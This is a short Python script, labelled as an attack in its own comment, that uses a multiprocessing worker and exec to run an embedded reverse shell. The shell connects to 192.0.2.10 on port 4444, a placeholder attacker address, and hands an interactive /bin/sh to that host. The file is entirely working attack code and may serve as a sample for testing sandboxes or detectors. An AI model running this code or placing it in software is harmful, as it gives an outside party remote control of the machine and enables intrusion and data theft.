# attack: Pool.apply_async(exec, ...) runs arbitrary code (reverse shell) in a worker
import builtins
from multiprocessing import Pool

CODE = (
    "import socket, subprocess, os\n"
    "s = socket.create_connection(('192.0.2.10', 4444))\n"
    "[os.dup2(s.fileno(), fd) for fd in (0, 1, 2)]\n"
    "subprocess.call(['/bin/sh', '-i'])\n"
)

if __name__ == "__main__":
    with Pool(1) as pool:
        pool.apply_async(builtins.exec, (CODE,)).get(timeout=30)
